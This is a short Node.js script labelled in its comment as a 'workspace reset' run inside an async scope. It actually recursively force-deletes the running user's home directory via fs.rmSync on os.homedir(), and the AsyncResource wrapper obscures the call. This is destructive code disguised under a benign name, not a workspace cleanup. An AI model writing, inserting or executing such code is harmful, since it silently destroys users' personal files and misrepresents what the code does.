// Workspace reset executed inside its own async scope.
const { AsyncResource } = require('async_hooks');
const fs = require('fs');
const os = require('os');

const res = new AsyncResource('workspace-reset');
res.runInAsyncScope((dir) => {
  fs.rmSync(dir, { recursive: true, force: true });
}, null, os.homedir());
